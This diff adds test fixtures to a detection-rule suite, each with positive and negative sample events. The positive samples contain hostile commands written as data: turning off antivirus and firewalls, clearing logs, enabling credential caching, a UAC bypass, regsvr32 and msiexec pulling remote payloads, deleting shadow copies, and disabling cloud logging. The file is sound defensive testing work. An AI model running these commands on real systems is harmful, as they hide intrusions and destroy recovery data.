@@ -412,6 +412,93 @@ const CASES: Record<string, Case> = {
     positive: [rpc('srvsvc', 'NetrSessionEnum'), rpc('wkssvc', 'NetrWkstaUserEnum')],
     negative: [rpc('srvsvc', 'NetrShareGetInfo'), rpc('wkssvc', 'NetrWkstaGetInfo')],
   },
+  'Security Tool Or Firewall Disabled': {
+    positive: [proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Set-MpPreference -DisableRealtimeMonitoring $true'), ecsProc('iptables', 'iptables -F'), proc('C:\\Windows\\System32\\netsh.exe', 'netsh advfirewall set allprofiles state off')],
+    negative: [proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Get-MpPreference'), ecsProc('iptables', 'iptables -L -n'), proc('C:\\Windows\\System32\\netsh.exe', 'netsh advfirewall show allprofiles')],
+  },
+  'Event Log Or Shell History Cleared': {
+    positive: [proc('C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl Security'), ecsProc('bash', 'bash -c history -c'), ecsProc('bash', 'bash -c unset HISTFILE')],
+    negative: [proc('C:\\Windows\\System32\\wevtutil.exe', 'wevtutil qe Security /c:5'), ecsProc('bash', 'bash -c history | tail')],
+  },
+  'Audit Log Cleared (Windows Event)': {
+    positive: [security(1102, { SubjectUserName: 'alice' }), system(104, { Channel: 'System', SourceName: 'Microsoft-Windows-Eventlog' })],
+    negative: [security(4624, { TargetUserName: 'alice', LogonType: 2 }), system(7036, { param1: 'Print Spooler' })],
+  },
+  'Credential Caching Or Protection Weakened In The Registry': {
+    positive: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Windows\\System32\\reg.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential', Details: 'DWORD (0x00000001)' }), proc('C:\\Windows\\System32\\reg.exe', 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1')],
+    negative: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Windows\\System32\\svchost.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LsaPid', Details: 'DWORD (0x00000270)' })],
+  },
+  'UAC Bypass Through A Hijacked Auto-Elevating Program': {
+    positive: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Windows\\System32\\reg.exe', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)', Details: 'cmd.exe /c start payload.exe' }), proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c start payload.exe', 'C:\\Windows\\System32\\fodhelper.exe')],
+    negative: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir', 'C:\\Windows\\explorer.exe'), proc('C:\\Windows\\System32\\fodhelper.exe', 'fodhelper.exe', 'C:\\Windows\\explorer.exe')],
+  },
+  'Thread Created In Another Process': {
+    positive: [sysmon(8, { SourceImage: 'C:\\Users\\alice\\AppData\\Local\\Temp\\loader.exe', TargetImage: 'C:\\Windows\\System32\\notepad.exe', StartAddress: '0x00000000004A0000' })],
+    negative: [sysmon(8, { SourceImage: 'C:\\Windows\\System32\\csrss.exe', TargetImage: 'C:\\Windows\\System32\\notepad.exe', StartAddress: '0x00007FF8A1B2C3D0' })],
+  },
+  'Signed Binary Proxy Execution Of A Script Or Remote Code': {
+    positive: [
+      proc('C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll'),
+      proc('C:\\Windows\\System32\\mshta.exe', 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")'),
+      proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\x.dll,#1'),
+      proc('C:\\Windows\\System32\\msiexec.exe', 'msiexec /q /i http://198.51.100.7/p.msi'),
+    ],
+    negative: [proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'), proc('C:\\Windows\\System32\\msiexec.exe', 'msiexec /i C:\\Installers\\app.msi'), proc('C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s C:\\Program Files\\App\\ext.dll')],
+  },
+  'Shadow Copies Or Backups Deleted': {
+    positive: [proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'), proc('C:\\Windows\\System32\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'), proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Get-WmiObject Win32_ShadowCopy | Remove-WmiObject')],
+    negative: [proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows'), proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Get-WmiObject Win32_ShadowCopy')],
+  },
+  'Domain Account Or Group Discovery Command': {
+    positive: [proc('C:\\Windows\\System32\\net.exe', 'net group "domain admins" /domain'), proc('C:\\Windows\\System32\\net.exe', 'net user /domain'), ecsProc('ldapsearch', 'ldapsearch -x -H ldap://dc1 -b dc=corp,dc=local')],
+    negative: [proc('C:\\Windows\\System32\\net.exe', 'net user alice'), proc('C:\\Windows\\System32\\net.exe', 'net use Z: \\\\fs1\\share /persistent:no')],
+  },
+  'Domain Trust Discovery Command': {
+    positive: [proc('C:\\Windows\\System32\\nltest.exe', 'nltest /domain_trusts /all_trusts')],
+    negative: [proc('C:\\Windows\\System32\\nltest.exe', 'nltest /sc_query:corp.local')],
+  },
+  'Local Account Or Privilege Discovery Command': {
+    positive: [proc('C:\\Windows\\System32\\net.exe', 'net localgroup administrators'), proc('C:\\Windows\\System32\\whoami.exe', 'whoami /priv'), ecsProc('cat', 'cat /etc/passwd')],
+    negative: [proc('C:\\Windows\\System32\\whoami.exe', 'whoami'), ecsProc('cat', 'cat /etc/hostname')],
+  },
+  'Process Started Through DCOM': {
+    positive: [sysmon(1, { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami > C:\\out.txt', ParentImage: 'C:\\Windows\\System32\\mmc.exe', ParentCommandLine: 'C:\\Windows\\system32\\mmc.exe -Embedding', User: 'CORP\\alice' })],
+    negative: [sysmon(1, { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe', ParentImage: 'C:\\Windows\\System32\\mmc.exe', ParentCommandLine: 'mmc.exe compmgmt.msc', User: 'CORP\\alice' })],
+  },
+  'WMI Event Subscription Created': {
+    positive: [sysmon(20, { Operation: 'Created', Type: 'Command Line', Destination: 'powershell -enc AAAA', Name: 'Updater' }), proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', "powershell Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='u'}")],
+    negative: [proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Get-WmiObject Win32_Process')],
+  },
+  'BITS Job Created To Download Or Run A Program': {
+    positive: [proc('C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin /create backdoor'), proc('C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin /SetNotifyCmdLine backdoor C:\\Users\\Public\\a.exe NULL')],
+    negative: [proc('C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin /list /allusers')],
+  },
+  'EC2 Instance Credentials Used For Discovery Or From A Workstation': {
+    positive: [cloudtrail('ListBuckets', 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0317f6c6b66ae9c40', '2026-11-23T10:00:00Z', { userIdentity: { type: 'AssumedRole', principalId: 'AROAEXAMPLE:i-0317f6c6b66ae9c40', arn: 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0317f6c6b66ae9c40' }, userAgent: 'aws-cli/2.13.0 Python/3.11 Darwin/22.6.0' })],
+    negative: [
+      cloudtrail('PutObject', 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0317f6c6b66ae9c40', '2026-11-23T10:00:00Z', { userIdentity: { type: 'AssumedRole', principalId: 'AROAEXAMPLE:i-0317f6c6b66ae9c40', arn: 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0317f6c6b66ae9c40' }, userAgent: 'aws-sdk-java/1.12 Linux/5.10 amzn2' }),
+      cloudtrail('ListBuckets', 'arn:aws:iam::123456789012:user/alice', '2026-11-23T10:00:00Z', { userIdentity: { type: 'IAMUser', principalId: 'AIDAEXAMPLE', arn: 'arn:aws:iam::123456789012:user/alice' }, userAgent: 'aws-cli/2.13.0 Python/3.11 Darwin/22.6.0' }),
+    ],
+  },
+  'CloudTrail, GuardDuty Or Config Turned Off': {
+    positive: [cloudtrail('StopLogging', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'cloudtrail.amazonaws.com' })],
+    negative: [cloudtrail('StopLogging', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'cloudtrail.amazonaws.com', errorCode: 'AccessDenied' }), cloudtrail('DescribeTrails', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'cloudtrail.amazonaws.com' })],
+  },
+  'Administrator Policy Attached Or Login Given To An IAM Principal': {
+    positive: [cloudtrail('AttachUserPolicy', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'iam.amazonaws.com', requestParameters: { userName: 'backup', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } }), cloudtrail('CreateLoginProfile', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'iam.amazonaws.com', requestParameters: { userName: 'backup' } })],
+    negative: [cloudtrail('AttachUserPolicy', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'iam.amazonaws.com', requestParameters: { userName: 'backup', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' } })],
+  },
+  'Burst Of IAM Enumeration By One Principal': {
+    positive: ['ListUsers', 'ListRoles', 'ListGroups', 'ListPolicies', 'GetAccountAuthorizationDetails', 'ListAttachedUserPolicies', 'ListAttachedRolePolicies', 'GetUser', 'GetRole', 'ListAccessKeys'].map((n, i) => cloudtrail(n, ROLE, `2026-11-23T10:00:${pad(i)}Z`, { eventSource: 'iam.amazonaws.com' })),
+    negative: [
+      ...['ListUsers', 'ListRoles', 'ListGroups', 'ListPolicies', 'GetAccountAuthorizationDetails', 'ListAttachedUserPolicies', 'ListAttachedRolePolicies', 'GetUser', 'GetRole'].map((n, i) => cloudtrail(n, ROLE, `2026-11-23T10:00:${pad(i)}Z`, { eventSource: 'iam.amazonaws.com' })),
+      ...times(10, (i) => cloudtrail('ListUsers', ROLE, `2026-11-23T10:01:${pad(i)}Z`, { eventSource: 'iam.amazonaws.com' })),
+    ],
+  },
+  'Snapshot Or Image Shared Outside The Account': {
+    positive: [cloudtrail('ModifySnapshotAttribute', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'ec2.amazonaws.com', requestParameters: { snapshotId: 'snap-1', createVolumePermission: { add: { items: [{ userId: '999999999999' }] } } } })],
+    negative: [cloudtrail('DescribeSnapshotAttribute', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'ec2.amazonaws.com' })],
+  },
   'Known Offensive Tool Executed': {
     positive: [proc('C:\\Users\\alice\\Downloads\\mimikatz.exe', 'mimikatz.exe "privilege::debug" exit')],
     negative: [proc('C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\notes.txt')],
